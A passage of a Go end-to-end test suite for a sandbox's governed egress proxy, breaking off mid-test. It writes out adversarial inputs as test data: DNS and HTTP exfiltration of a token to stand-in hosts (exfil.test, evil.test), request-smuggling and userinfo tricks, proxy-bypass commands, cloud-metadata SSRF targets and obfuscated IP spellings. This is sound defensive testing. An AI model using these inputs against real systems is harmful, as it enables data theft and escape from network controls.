//go:build linux

package e2e

// Governed egress (network.mode: proxy), end to end: real clients through
// the proxy, and P05, P19–P24 of /work/shared/cases/ADVERSARIAL.md. Every
// upstream is a test server on 127.0.0.0/8 named through the policy's hosts
// map; allow_private lets the proxy dial exactly those loopback endpoints.

import (
	"encoding/json"
	"fmt"
	"net"
	"net/http"
	"net/http/cgi"
	"os"
	"os/exec"
	"path/filepath"
	"strconv"
	"strings"
	"testing"
	"time"
)

const python = "/usr/bin/python3" // the system's; pyenv shims under /root are not granted

func needTool(t *testing.T, path string) {
	t.Helper()
	if _, err := exec.LookPath(path); err != nil {
		t.Skipf("%s not installed: %v", path, err)
	}
}

// clientsNet allows api.allowed.test (HTTP on 127.0.0.2) and
// tls.allowed.test (HTTPS on 127.0.0.3) on their ports only.
func clientsNet(h, s *upstream) egressNet {
	return egressNet{
		allow: []ep{{"api.allowed.test", []int{h.port}}, {"tls.allowed.test", []int{s.port}}},
		private: []ep{
			{h.ip + "/32", []int{h.port}},
			{s.ip + "/32", []int{s.port}},
		},
		hosts: map[string]string{"api.allowed.test": h.ip, "tls.allowed.test": s.ip},
	}
}

// makeGitRepo creates a bare repository served by git http-backend under
// /git/ of u and returns the canary committed in it.
func makeGitRepo(t *testing.T, u *upstream) string {
	t.Helper()
	backend := "/usr/lib/git-core/git-http-backend"
	if _, err := os.Stat(backend); err != nil {
		t.Skipf("git http-backend not available: %v", err)
	}
	root := t.TempDir()
	work := filepath.Join(root, "work")
	canary := token()
	gitc := func(dir string, args ...string) {
		t.Helper()
		cmd := exec.Command("git", append([]string{"-c", "user.name=e2e", "-c", "user.email=e2e@example.invalid", "-c", "init.defaultBranch=main"}, args...)...)
		cmd.Dir = dir
		if out, err := cmd.CombinedOutput(); err != nil {
			t.Fatalf("git %v: %v\n%s", args, err, out)
		}
	}
	if err := os.MkdirAll(work, 0o755); err != nil {
		t.Fatal(err)
	}
	gitc(work, "init", "-q")
	if err := os.WriteFile(filepath.Join(work, "README"), []byte(canary+"\n"), 0o644); err != nil {
		t.Fatal(err)
	}
	gitc(work, "add", "README")
	gitc(work, "commit", "-q", "-m", "e2e")
	gitc(root, "clone", "-q", "--bare", work, filepath.Join(root, "repo.git"))
	u.mux.Handle("/git/", &cgiHandler{root: root, backend: backend})
	return canary
}

// TestEgressClients: curl, Python urllib, git (smart HTTP over TLS) and
// Node reach allowed upstreams through the proxy with the environment
// corral sets, over plain HTTP (absolute-form) and HTTPS (CONNECT).
func TestEgressClients(t *testing.T) {
	eachIdent(t, func(t *testing.T, id *ident) {
		h := newUpstream(t, "127.0.0.2", 0, false)
		s := newUpstream(t, "127.0.0.3", 0, true)
		canary := makeGitRepo(t, s)
		caDir, ca := writeCA(t, id)
		n := clientsNet(h, s)
		hURL := "http://" + h.hostPort("api.allowed.test")
		sURL := "https://" + s.hostPort("tls.allowed.test")
		hOK := "upstream-ok " + h.hostPort("api.allowed.test") + " /hello"
		sOK := "upstream-ok " + s.hostPort("tls.allowed.test") + " /hello"
		nodeHTTP := `const http=require('http');const [u,hp]=process.argv.slice(1);
http.get({host:'127.0.0.1',port:3128,path:u,headers:{Host:hp}},r=>{let b='';r.on('data',d=>b+=d);r.on('end',()=>console.log('out: '+r.statusCode+' '+b.trim()))}).on('error',e=>console.log('out: error '+e.message));`
		nodeHTTPS := `const http=require('http'),tls=require('tls'),fs=require('fs');const [host,port,ca]=process.argv.slice(1);const t=host+':'+port;
const q=http.request({host:'127.0.0.1',port:3128,method:'CONNECT',path:t,headers:{Host:t}});
q.on('connect',(r,sock)=>{if(r.statusCode!==200){console.log('out: connect '+r.statusCode);sock.destroy();return}
const s=tls.connect({socket:sock,servername:host,ca:fs.readFileSync(ca)},()=>s.write('GET /hello HTTP/1.1\r\nHost: '+t+'\r\nConnection: close\r\n\r\n'));
let b='';s.on('data',d=>b+=d);s.on('end',()=>console.log('out: '+b.split('\r\n')[0]+' '+b.split('\r\n\r\n')[1].trim()));s.on('error',e=>console.log('out: error '+e.message))});
q.on('error',e=>console.log('out: error '+e.message));q.end();`
		pyGet := `import sys,urllib.request
try: print("out: " + urllib.request.urlopen(sys.argv[1], timeout=10).read().decode().strip())
except Exception as e: print("out: error", e)`
		cases := []struct {
			name, tool, script, want string
		}{
			{"curl-http", "curl", fmt.Sprintf("echo \"out: $(curl -sS -m 10 %s/hello 2>&1)\"", hURL), hOK},
			{"curl-https", "curl", fmt.Sprintf("echo \"out: $(curl -sS -m 10 --cacert %s %s/hello 2>&1)\"", ca, sURL), sOK},
			{"python-http", python, fmt.Sprintf("%s -c '%s' %s/hello", python, pyGet, hURL), hOK},
			{"python-https", python, fmt.Sprintf("SSL_CERT_FILE=%s %s -c '%s' %s/hello", ca, python, pyGet, sURL), sOK},
			{"git-https", "git", fmt.Sprintf("cd \"$(mktemp -d)\" && GIT_SSL_CAINFO=%s git clone -q %s/git/repo.git clone 2>&1; echo \"out: $(cat clone/README 2>&1)\"", ca, sURL), canary},
			{"node-http", "node", fmt.Sprintf("node -e \"$1\" %s/hello %s", hURL, h.hostPort("api.allowed.test")), "200 " + hOK},
			{"node-https", "node", fmt.Sprintf("node -e \"$1\" tls.allowed.test %d %s", s.port, ca), "HTTP/1.1 200 OK " + sOK},
		}
		for _, c := range cases {
			t.Run(c.name, func(t *testing.T) {
				needTool(t, c.tool)
				script := c.script
				args := ""
				switch c.name {
				case "node-http":
					args = nodeHTTP
				case "node-https":
					args = nodeHTTPS
				}
				wd := mkdir(t, id, "egress")
				pol := writePolicy(t, id, policy{RO: []string{caDir}, Network: "proxy", NetRules: n.yaml()})
				res := corral(t, run{id: id, policy: pol, workdir: wd, args: []string{"/bin/sh", "-c", script, "sh", args}})
				want(t, res, "out", c.want, false)
			})
		}
		t.Run("node-fetch", func(t *testing.T) {
			needTool(t, "node")
			out, err := exec.Command("node", "-p", "process.versions.node").Output()
			if err != nil {
				t.Fatal(err)
			}
			v := strings.TrimSpace(string(out))
			parts := strings.Split(v, ".")
			major, _ := strconv.Atoi(parts[0])
			minor := 0
			if len(parts) > 1 {
				minor, _ = strconv.Atoi(parts[1])
			}
			if major < 22 || major == 22 && minor < 21 || major == 23 {
				t.Skipf("node %s: fetch ignores the proxy environment before Node 24 / 22.21 (NODE_USE_ENV_PROXY, which corral sets, is not implemented); node-http and node-https cover Node through the proxy", v)
			}
			script := fmt.Sprintf(`fetch(%q).then(r=>r.text()).then(b=>console.log('out: '+b.trim()),e=>console.log('out: error '+e.cause))`, hURL+"/hello")
			res, _ := proxyRun(t, id, n, []string{caDir}, nil, "node -e '"+script+"'")
			want(t, res, "out", hOK, false)
		})
	})
}

// cgiHandler serves git http-backend (smart HTTP) for the repositories
// under root, mounted at /git/.
type cgiHandler struct{ root, backend string }

func (g *cgiHandler) ServeHTTP(w http.ResponseWriter, r *http.Request) {
	h := &cgi.Handler{Path: g.backend, Root: "/git", Env: []string{"GIT_PROJECT_ROOT=" + g.root, "GIT_HTTP_EXPORT_ALL=1"}}
	h.ServeHTTP(w, r)
}

// TestEgressKeepAlive: 100 requests on one client connection to the proxy
// (Python http.client, absolute-form) all succeed, and the proxy reuses one
// upstream connection for them.
func TestEgressKeepAlive(t *testing.T) {
	needTool(t, python)
	eachIdent(t, func(t *testing.T, id *ident) {
		h := newUpstream(t, "127.0.0.2", 0, false)
		n := egressNet{allow: []ep{{"api.allowed.test", []int{h.port}}}, private: []ep{{h.ip + "/32", []int{h.port}}}, hosts: map[string]string{"api.allowed.test": h.ip}}
		py := `import http.client,sys
hp=sys.argv[1]
c=http.client.HTTPConnection("127.0.0.1",3128,timeout=10)
ok=0
for i in range(100):
    c.request("GET","http://%s/ka/%d"%(hp,i),headers={"Host":hp})
    r=c.getresponse(); b=r.read()
    if r.status==200 and b.startswith(b"upstream-ok"): ok+=1
print("keepalive: %d"%ok)`
		res, _ := proxyRun(t, id, n, nil, []string{"-v"}, fmt.Sprintf("%s -c '%s' %s", python, py, h.hostPort("api.allowed.test")))
		want(t, res, "keepalive", "100", false)
		if got := len(h.requests()); got != 100 {
			t.Errorf("upstream served %d requests, want 100", got)
		}
		if a := h.accepts.Load(); a != 1 {
			t.Errorf("upstream accepted %d connections for 100 keep-alive requests, want 1", a)
		}
		if !strings.Contains(res.stderr, "corral: egress: 100 allowed, 0 denied") {
			t.Errorf("-v summary: want \"corral: egress: 100 allowed, 0 denied\"\n%s", res)
		}
	})
}

// TestEgressWebSocket: an RFC 6455 upgrade through the proxy
// (absolute-form request) switches protocols and echoes a frame; a
// WebSocket to a host without an allow rule is refused with 403.
func TestEgressWebSocket(t *testing.T) {
	eachIdent(t, func(t *testing.T, id *ident) {
		h := newUpstream(t, "127.0.0.2", 0, false)
		evil := newUpstream(t, "127.0.0.4", 0, false)
		n := egressNet{
			allow:   []ep{{"api.allowed.test", []int{h.port}}},
			private: []ep{{h.ip + "/32", []int{h.port}}, {evil.ip + "/32", []int{evil.port}}},
			hosts:   map[string]string{"api.allowed.test": h.ip, "evil.test": evil.ip},
		}
		script := fmt.Sprintf("%s ws %s http://%s/ws; %s ws %s http://%s/ws | sed 's/^ws:/ws-evil:/'",
			probeBin, proxyAddr, h.hostPort("api.allowed.test"), probeBin, proxyAddr, evil.hostPort("evil.test"))
		res, _ := proxyRun(t, id, n, nil, nil, script)
		want(t, res, "ws", "echo opcode=1 corral-ws-echo", false)
		want(t, res, "ws-evil", "status 403", true)
		evil.assertUntouched(t, "the evil upstream")
	})
}

// TestEgressAudit: every decision is an OCSF HTTP Activity event (class
// 4002) in the --audit file, allowed and denied, with the destination and
// without query strings; -v prints the counts and the denials.
func TestEgressAudit(t *testing.T) {
	needTool(t, "curl")
	eachIdent(t, func(t *testing.T, id *ident) {
		h := newUpstream(t, "127.0.0.2", 0, false)
		s := newUpstream(t, "127.0.0.3", 0, true)
		caDir, ca := writeCA(t, id)
		secret := token()
		logDir := mkdir(t, id, "auditlog")
		logf := filepath.Join(logDir, "audit.jsonl")
		script := fmt.Sprintf(`echo "allowed: $(curl -sS -m 10 -o /dev/null -w '%%{http_code}' 'http://%s/a?token=%s-1')"
echo "tls: $(curl -sS -m 10 -o /dev/null -w '%%{http_code}' --cacert %s 'https://%s/b?token=%s-2')"
echo "denied: $(curl -sS -m 10 'http://evil.test/c?token=%s-3')"`,
			h.hostPort("api.allowed.test"), secret, ca, s.hostPort("tls.allowed.test"), secret, secret)
		res, _ := proxyRun(t, id, clientsNet(h, s), []string{caDir}, []string{"-v", "--audit", logf}, script)
		assertCode(t, res, 0)
		want(t, res, "allowed", "200", false)
		want(t, res, "tls", "200", false)
		v, _ := lineValue(res.stdout, "denied")
		var body denialBody
		if err := json.Unmarshal([]byte(v), &body); err != nil {
			t.Fatalf("denial body is not JSON: %v: %q\n%s", err, v, res)
		}
		if body.Host != "evil.test" || body.Port != 80 || body.Reason == "" || !strings.Contains(body.Hint, "evil.test") {
			t.Errorf("denial body %+v: want host evil.test, port 80, a reason and a hint naming evil.test", body)
		}
		raw := readFile(t, logf)
		evs := egressEvents(t, logf)
		// (The launch event's cmd_line holds the script itself, secret
		// included; the egress events and the summary must not.)
		for _, e := range evs {
			if strings.Contains(e.raw, secret) {
				t.Errorf("an egress event has the query string's secret: %s", e.raw)
			}
		}
		if strings.Contains(res.stderr, secret) {
			t.Errorf("corral's -v output has the query string's secret:\n%s", res)
		}
		var allowed, tunnel, denied *ocsfEvent
		for i := range evs {
			e := &evs[i]
			switch {
			case e.Dst.Hostname == "api.allowed.test" && e.Action == "Allowed":
				allowed = e
			case e.Dst.Hostname == "tls.allowed.test" && e.Action == "Allowed":
				tunnel = e
			case e.Dst.Hostname == "evil.test" && e.Action == "Denied":
				denied = e
			}
		}
		if allowed == nil || tunnel == nil || denied == nil {
			t.Fatalf("want class 4002 events: Allowed api.allowed.test, Allowed tls.allowed.test (CONNECT), Denied evil.test; got %d events:\n%s", len(evs), raw)
		}
		if allowed.Dst.IP != h.ip || allowed.Dst.Port != h.port || allowed.HTTPResponse.Code != 200 || allowed.Unmapped.SandboxID == "" || allowed.Unmapped.Rule == "" {
			t.Errorf("allowed event: want ip %s port %d, code 200, a sandbox id and the rule; got %s", h.ip, h.port, allowed.raw)
		}
		if tunnel.Dst.IP != s.ip || tunnel.Dst.Port != s.port || tunnel.HTTPRequest.Method != "CONNECT" {
			t.Errorf("CONNECT event: want CONNECT to %s:%d; got %s", s.ip, s.port, tunnel.raw)
		}
		if denied.ActionID != 2 || denied.HTTPResponse.Code != 403 || denied.Dst.Port != 80 || denied.Unmapped.Reason == "" {
			t.Errorf("denied event: want action_id 2, code 403, port 80 and a reason; got %s", denied.raw)
		}
		if denied.Dst.IP != "" {
			t.Errorf("denied event has a resolved address %q: a denied name must not be resolved", denied.Dst.IP)
		}
		if !strings.Contains(res.stderr, "corral: egress: 2 allowed, 1 denied") || !strings.Contains(res.stderr, "corral: egress: denied 1x evil.test:80") {
			t.Errorf("-v summary: want \"corral: egress: 2 allowed, 1 denied\" and \"denied 1x evil.test:80 ...\"\n%s", res)
		}
	})
}

// P19: DNS exfiltration. The sandbox has no route to any resolver, the
// proxy resolves only allowed names, and a test DNS server on loopback
// sees no query, however the workload tries.
func TestP19_DNSExfiltration(t *testing.T) {
	needTool(t, "curl")
	udp := listenCounter(t, "udp", "127.0.0.53:0")
	if udp == nil {
		t.Skip("cannot bind 127.0.0.53")
	}
	_, port, _ := net.SplitHostPort(udp.addr)
	tcp := listenCounter(t, "tcp", "127.0.0.53:"+port)
	if tcp == nil {
		t.Fatal("cannot bind the DNS server's TCP port")
	}
	eachIdent(t, func(t *testing.T, id *ident) {
		h := newUpstream(t, "127.0.0.2", 0, false)
		n := egressNet{allow: []ep{{"api.allowed.test", []int{h.port}}}, private: []ep{{h.ip + "/32", []int{h.port}}}, hosts: map[string]string{"api.allowed.test": h.ip}}
		tok := token()
		// A DNS query for <tok>.exfil.test, as dig @127.0.0.53 -p PORT would send it.
		pyDNS := `import socket,struct,sys
name,port=sys.argv[1],int(sys.argv[2])
q=struct.pack(">HHHHHH",0x1234,0x0100,1,0,0,0)+b"".join(bytes([len(l)])+l.encode() for l in name.split("."))+b"\0"+struct.pack(">HH",1,1)
for proto in ("udp","tcp"):
    try:
        s=socket.socket(socket.AF_INET,socket.SOCK_DGRAM if proto=="udp" else socket.SOCK_STREAM); s.settimeout(2)
        if proto=="udp": s.sendto(q,("127.0.0.53",port)); s.recv(512)
        else: s.connect(("127.0.0.53",port)); s.sendall(struct.pack(">H",len(q))+q); s.recv(512)
        print("dns-"+proto+": answered")
    except Exception as e: print("dns-"+proto+": failed", type(e).__name__)
try: socket.getaddrinfo("gai-"+name,80); print("gai: resolved")
except Exception as e: print("gai: failed", type(e).__name__)`
		script := fmt.Sprintf(`getent hosts getent-%[1]s.exfil.test; echo "getent: $?"
%[2]s -c '%[3]s' %[1]s.exfil.test %[4]s
echo "curl: $(curl -sS -m 10 http://b-%[1]s.exfil.test/ 2>&1)"
echo "allowed: $(curl -sS -m 10 -o /dev/null -w '%%{http_code}' http://%[5]s/)"
%[6]s connect udp 127.0.0.53:%[4]s; %[6]s connect tcp 127.0.0.53:%[4]s`, tok, python, pyDNS, port, h.hostPort("api.allowed.test"), probeBin)
		logf := filepath.Join(mkdir(t, id, "auditlog"), "audit.jsonl")
		res, _ := proxyRun(t, id, n, nil, []string{"--audit", logf}, script)
		want(t, res, "getent", "2", false) // "not found": no resolver reachable
		if _, err := os.Stat(python); err == nil {
			want(t, res, "gai", "failed", true)
			want(t, res, "dns-udp", "failed", true)
			want(t, res, "dns-tcp", "failed", true)
		}
		v, _ := lineValue(res.stdout, "curl")
		var body denialBody
		if err := json.Unmarshal([]byte(v), &body); err != nil || body.Host != "b-"+tok+".exfil.test" {
			t.Errorf("curl http://b-<tok>.exfil.test/: want the proxy's JSON 403 for that host, got %q\n%s", v, res)
		}
		want(t, res, "allowed", "200", false)
		if v, _ := lineValue(res.stdout, "connect tcp 127.0.0.53:"+port); v == "ok" {
			t.Errorf("TCP to the DNS server's address connected from the sandbox\n%s", res)
		}
		for _, e := range egressEvents(t, logf) {
			if strings.Contains(e.Dst.Hostname, "exfil.test") && e.Dst.IP != "" {
				t.Errorf("the proxy resolved a denied name: %s", e.raw)
			}
		}
	})
	// The subtests are parallel: they run after this function returns.
	t.Cleanup(func() {
		if u, c := udp.n.Load(), tcp.n.Load(); u != 0 || c != 0 {
			t.Errorf("the test DNS server saw %d datagrams and %d TCP connections from the sandbox", u, c)
		}
	})
}

// P20: request forms. Absolute-form to a denied host, a Host header that
// differs from the target, HTTP/1.0 without Host, userinfo tricks and
// origin-form requests are refused with 403/400; the evil upstream (mapped
// by hosts and even covered by allow_private, but not allowed) logs nothing.
func TestP20_RequestForms(t *testing.T) {
	eachIdent(t, func(t *testing.T, id *ident) {
		h := newUpstream(t, "127.0.0.2", 0, false)
		evil := newUpstream(t, "127.0.0.4", 0, false)
		n := egressNet{
			allow:   []ep{{"api.allowed.test", []int{h.port}}},
			private: []ep{{h.ip + "/32", []int{h.port}}, {evil.ip + "/32", []int{evil.port}}},
			hosts:   map[string]string{"api.allowed.test": h.ip, "evil.test": evil.ip},
		}
		good, bad := h.hostPort("api.allowed.test"), evil.hostPort("evil.test")
		cases := []struct{ name, req, want string }{
			{"control", "GET http://" + good + "/ HTTP/1.1\\r\\nHost: " + good + "\\r\\nConnection: close\\r\\n\\r\\n", "200"},
			{"control-1.0", "GET http://" + good + "/ HTTP/1.0\\r\\n\\r\\n", "200"},
			{"absolute-denied", "GET http://" + bad + "/ HTTP/1.1\\r\\nHost: " + bad + "\\r\\n\\r\\n", "403"},
			{"host-mismatch", "GET http://" + good + "/ HTTP/1.1\\r\\nHost: " + bad + "\\r\\n\\r\\n", "400"},
			{"host-mismatch-port", "GET http://" + good + "/ HTTP/1.1\\r\\nHost: api.allowed.test:1\\r\\n\\r\\n", "400"},
			{"http10-no-host", "GET http://" + bad + "/ HTTP/1.0\\r\\n\\r\\n", "403"},
			{"userinfo", "GET http://api.allowed.test@" + bad + "/ HTTP/1.1\\r\\nHost: " + bad + "\\r\\n\\r\\n", "400|403"},
			{"userinfo-port", "GET http://" + good + "@" + bad + "/ HTTP/1.1\\r\\nHost: " + bad + "\\r\\n\\r\\n", "400|403"},
			{"origin-form", "GET / HTTP/1.1\\r\\nHost: " + bad + "\\r\\n\\r\\n", "400|403"},
			{"origin-form-allowed-host", "GET / HTTP/1.1\\r\\nHost: " + good + "\\r\\n\\r\\n", "400|403"},
			{"connect-denied", "CONNECT " + bad + " HTTP/1.1\\r\\nHost: " + bad + "\\r\\n\\r\\n", "403"},
			{"connect-userinfo", "CONNECT api.allowed.test@" + bad + " HTTP/1.1\\r\\nHost: " + bad + "\\r\\n\\r\\n", "400|403"},
			{"two-host-headers", "GET http://" + good + "/ HTTP/1.1\\r\\nHost: " + good + "\\r\\nHost: " + bad + "\\r\\n\\r\\n", "400"},
			{"pct-encoded-host", "GET http://evil%2etest:" + strconv.Itoa(evil.port) + "/ HTTP/1.1\\r\\nHost: " + bad + "\\r\\n\\r\\n", "400|403"},
			{"backslash-userinfo", "GET http://" + good + "\\\\@" + bad + "/ HTTP/1.1\\r\\nHost: " + good + "\\r\\n\\r\\n", "400|403"},
			{"trailing-dot", "GET http://evil.test.:" + strconv.Itoa(evil.port) + "/ HTTP/1.1\\r\\nHost: evil.test.:" + strconv.Itoa(evil.port) + "\\r\\n\\r\\n", "400|403"},
			{"https-scheme", "GET https://" + bad + "/ HTTP/1.1\\r\\nHost: " + bad + "\\r\\n\\r\\n", "400|403"},
			{"double-space", "GET  http://" + bad + "/ HTTP/1.1\\r\\n\\r\\n", "400|403"},
			{"cl-te-smuggle", "GET http://" + good + "/ HTTP/1.1\\r\\nHost: " + good + "\\r\\nContent-Length: 5\\r\\nTransfer-Encoding: chunked\\r\\n\\r\\n0\\r\\n\\r\\nGET http://" + bad + "/ HTTP/1.1\\r\\nHost: " + bad + "\\r\\n\\r\\n", "400|403"},
		}
		var script strings.Builder
		for _, c := range cases {
			fmt.Fprintf(&script, "%s rawhttp %s '%s' | sed 's/^rawhttp/%s/'\n", probeBin, proxyAddr, c.req, c.name)
		}
		if _, err := exec.LookPath("curl"); err == nil {
			fmt.Fprintf(&script, "echo \"curl-userinfo: $(curl -sS -m 10 -o /dev/null -w '%%{http_code}' http://api.allowed.test@%s/)\"\n", bad)
			fmt.Fprintf(&script, "echo \"curl-host-header: $(curl -sS -m 10 -o /dev/null -w '%%{http_code}' -H 'Host: %s' http://%s/)\"\n", bad, good)
			cases = append(cases, struct{ name, req, want string }{"curl-userinfo", "", "403"}, struct{ name, req, want string }{"curl-host-header", "", "400"})
		}
		res, _ := proxyRun(t, id, n, nil, nil, script.String())
		for _, c := range cases {
			v, ok := lineValue(res.stdout, c.name)
			if !ok {
				t.Errorf("%s: no output\n%s", c.name, res)
				continue
			}
			code := v
			if f := strings.Fields(v); len(f) > 1 && strings.HasPrefix(f[0], "HTTP/") {
				code = f[1]
			}
			if !strings.Contains("|"+c.want+"|", "|"+code+"|") {
				t.Errorf("%s: got %q, want status %s\n%s", c.name, v, c.want, res)
			}
		}
		evil.assertUntouched(t, "the evil upstream")
	})
}

// P21 and P05 in proxy mode: unsetting the proxy variables, NO_PROXY=*,
// raw TCP to the upstream's address, to the host's interface addresses and
// to host loopback services, IPv6, UDP and abstract unix sockets all fail
// at the network layer; the proxy is the only route out.
func TestP21_BypassProxy(t *testing.T) {
	needTool(t, "curl")
	// Port 3128 elsewhere than 127.0.0.1: the Landlock port rule allows
	// it, so only the topology stands in the way. Shared by the identities.
	var fixed []*rawCounter
	addrs, _ := net.InterfaceAddrs()
	fixedAddrs := []string{"127.0.0.5:3128", "[::1]:3128"}
	var ifaceIPs []string // the host's own interface addresses (local delivery only)
	for _, a := range addrs {
		ipn, ok := a.(*net.IPNet)
		if !ok || ipn.IP.IsLoopback() || ipn.IP.IsLinkLocalUnicast() || ipn.IP.IsMulticast() {
			continue
		}
		ifaceIPs = append(ifaceIPs, ipn.IP.String())
		fixedAddrs = append(fixedAddrs, net.JoinHostPort(ipn.IP.String(), "3128"))
	}
	for _, a := range fixedAddrs {
		if c := listenCounter(t, "tcp", a); c != nil {
			fixed = append(fixed, c)
		}
	}
	t.Cleanup(func() {
		for _, c := range fixed {
			if v := c.n.Load(); v != 0 {
				t.Errorf("host listener %s saw %d connections from the sandbox", c.addr, v)
			}
		}
	})
	eachIdent(t, func(t *testing.T, id *ident) {
		h := newUpstream(t, "127.0.0.2", 0, false)   // allowed through the proxy, target of the bypasses
		ctl := newUpstream(t, "127.0.0.3", 0, false) // the control: reachable through the proxy
		n := egressNet{
			allow:   []ep{{"api.allowed.test", []int{h.port}}, {"ctl.allowed.test", []int{ctl.port}}},
			private: []ep{{h.ip + "/32", []int{h.port}}, {ctl.ip + "/32", []int{ctl.port}}},
			hosts:   map[string]string{"api.allowed.test": h.ip, "ctl.allowed.test": ctl.ip},
		}
		var counters []*rawCounter
		add := func(network, addr string) *rawCounter {
			c := listenCounter(t, network, addr)
			if c != nil {
				counters = append(counters, c)
			}
			return c
		}
		var targets [][2]string // network, address
		hAddr := net.JoinHostPort(h.ip, strconv.Itoa(h.port))
		targets = append(targets, [2]string{"tcp", hAddr})
		if c := add("tcp", "127.0.0.1:0"); c != nil {
			targets = append(targets, [2]string{"tcp", c.addr})
		}
		if c := add("tcp", "[::1]:0"); c != nil {
			targets = append(targets, [2]string{"tcp", c.addr})
		}
		for _, c := range fixed {
			targets = append(targets, [2]string{"tcp", c.addr})
		}
		if c := add("udp", "127.0.0.53:0"); c != nil {
			targets = append(targets, [2]string{"udp", c.addr})
		}
		abstract := "@corral-e2e-" + token()
		if c := add("unix", abstract); c != nil {
			targets = append(targets, [2]string{"unix", abstract})
		}
		for _, ip := range ifaceIPs {
			if c := add("tcp", net.JoinHostPort(ip, "0")); c != nil {
				targets = append(targets, [2]string{"tcp", c.addr})
			}
		}
		var script strings.Builder
		unset := "env -u HTTP_PROXY -u http_proxy -u HTTPS_PROXY -u https_proxy -u ALL_PROXY -u all_proxy"
		fmt.Fprintf(&script, "%s curl -sS -m 5 http://%s/ >/dev/null 2>&1; echo \"unset-env-name: $?\"\n", unset, h.hostPort("api.allowed.test"))
		fmt.Fprintf(&script, "%s curl -sS -m 5 http://%s/ >/dev/null 2>&1; echo \"unset-env-ip: $?\"\n", unset, hAddr)
		fmt.Fprintf(&script, "NO_PROXY='*' no_proxy='*' curl -sS -m 5 http://%s/ >/dev/null 2>&1; echo \"no-proxy-star: $?\"\n", hAddr)
		fmt.Fprintf(&script, "curl --noproxy '*' -sS -m 5 http://%s/ >/dev/null 2>&1; echo \"noproxy-flag: $?\"\n", hAddr)
		fmt.Fprintf(&script, "echo \"control: $(curl -sS -m 10 -o /dev/null -w '%%{http_code}' http://%s/)\"\n", ctl.hostPort("ctl.allowed.test"))
		for _, tg := range targets {
			fmt.Fprintf(&script, "%s connect %s '%s'\n", probeBin, tg[0], tg[1])
		}
		res, _ := proxyRun(t, id, n, nil, nil, script.String())
		t.Logf("probes:\n%s", res.stdout)
		want(t, res, "control", "200", false)
		for _, k := range []string{"unset-env-name", "unset-env-ip", "no-proxy-star", "noproxy-flag"} {
			v, ok := lineValue(res.stdout, k)
			if !ok || v == "0" {
				t.Errorf("%s: curl exit %q, want a failure\n%s", k, v, res)
			}
		}
		for _, tg := range targets {
			v, ok := lineValue(res.stdout, "connect "+tg[0]+" "+tg[1])
			if !ok {
				t.Errorf("connect %s %s not probed\n%s", tg[0], tg[1], res)
				continue
			}
			if v == "ok" && tg[0] != "udp" { // a UDP send succeeds locally; the listener decides
				t.Errorf("connect %s %s succeeded from the proxy-mode sandbox", tg[0], tg[1])
			}
		}
		h.assertUntouched(t, "the upstream reached without the proxy")
		for _, c := range counters {
			if v := c.n.Load(); v != 0 {
				t.Errorf("host listener %s saw %d connections/datagrams from the sandbox", c.addr, v)
			}
		}
	})
}

// P22: allowed names mapped (hosts) to loopback, metadata, RFC 1918 and
// IPv6 loopback/mapped addresses are refused with 403 before any dial,
// unless allow_private covers the address.
func TestP22_InternalTargets(t *testing.T) {
	needTool(t, "curl")
	eachIdent(t, func(t *testing.T, id *ident) {
		lo := newUpstream(t, "127.0.0.1", 0, false)
		port := lo.port
		lo6, err := startUpstream("::1", port, false, t)
		if err != nil {
			t.Logf("no [::1]:%d listener: %v", port, err)
		}
		targets := map[string]string{
			"r-loopback.test": "127.0.0.1",
			"r-metadata.test": "169.254.169.254",
			"r-rfc1918.test":  "10.0.0.1",
			"r-ipv6-lo.test":  "::1",
			"r-v4mapped.test": "::ffff:127.0.0.1",
			"r-unspec.test":   "0.0.0.0",
		}
		n := egressNet{hosts: targets}
		for name := range targets {
			n.allow = append(n.allow, ep{name, []int{port}})
		}
		var script strings.Builder
		for name := range targets {
			hp := net.JoinHostPort(name, strconv.Itoa(port))
			fmt.Fprintf(&script, "echo \"http %s: $(curl -sS -m 10 -o /dev/null -w '%%{http_code}' http://%s/)\"\n", name, hp)
			fmt.Fprintf(&script, "echo \"connect %s: $(curl -sS -m 10 -o /dev/null -w '%%{http_connect}' https://%s/ 2>/dev/null)\"\n", name, hp)
		}
		res, _ := proxyRun(t, id, n, nil, nil, script.String())
		for name := range targets {
			want(t, res, "http "+name, "403", false)
			want(t, res, "connect "+name, "403", false)
		}
		lo.assertUntouched(t, "the host's 127.0.0.1 listener")
		if lo6 != nil {
			lo6.assertUntouched(t, "the host's [::1] listener")
		}

		// The same name is reachable once allow_private covers the address.
		n = egressNet{
			allow:   []ep{{"r-loopback.test", []int{port}}},
			private: []ep{{"127.0.0.1/32", []int{port}}},
			hosts:   map[string]string{"r-loopback.test": "127.0.0.1"},
		}
		res, _ = proxyRun(t, id, n, nil, nil, fmt.Sprintf("echo \"private: $(curl -sS -m 10 http://r-loopback.test:%d/)\"", port))
		want(t, res, "private", fmt.Sprintf("upstream-ok r-loopback.test:%d /", port), false)
	})
}

// P23: IP literal spellings as CONNECT and absolute-form targets.
//
// "as written": the policy allows only api.allowed.test, and allow_private
// covers 127.0.0.1 and ::1 on the listener's port, so only the allow rules
// stand between a spelling and the host's loopback listener: every spelling
// is refused (403/400) and the listener sees nothing.
//
// "strict": 127.0.0.1 itself is allowed; the numeric spellings that libc's
// inet_aton would accept (127.1, 2130706433, 0x7f000001, octal, leading
// zeros) and the unspecified addresses must still be refused by the
// authority parser rather than canonicalised into the allowed address; the
// canonical spelling is the control. (The parser documents that it unmaps
// IPv4-mapped IPv6 literals and ignores one trailing dot: those reach the
// allowed 127.0.0.1, which is not a bypass, so they are not asserted here.)
func TestP23_IPLiteralSpellings(t *testing.T) {
	eachIdent(t, func(t *testing.T, id *ident) {
		lo := newUpstream(t, "127.0.0.1", 0, false)
		port := lo.port
		p := strconv.Itoa(port)
		lo6, err := startUpstream("::1", port, false, t)
		if err != nil {
			t.Logf("no [::1]:%d listener: %v", port, err)
		}
		probeAll := func(n egressNet, spellings []string, control bool) result {
			var script strings.Builder
			line := func(name, req string) {
				fmt.Fprintf(&script, "%s rawhttp %s '%s' | sed 's/^rawhttp:/%s:/'\n", probeBin, proxyAddr, req, name)
			}
			if control {
				line("control-get", "GET http://127.0.0.1:"+p+"/ HTTP/1.1\\r\\nHost: 127.0.0.1:"+p+"\\r\\nConnection: close\\r\\n\\r\\n")
				line("control-connect", "CONNECT 127.0.0.1:"+p+" HTTP/1.1\\r\\nHost: 127.0.0.1:"+p+"\\r\\n\\r\\n")
			}
			for _, s := range spellings {
				a := s + ":" + p
				line("get "+s, "GET http://"+a+"/ HTTP/1.1\\r\\nHost: "+a+"\\r\\nConnection: close\\r\\n\\r\\n")
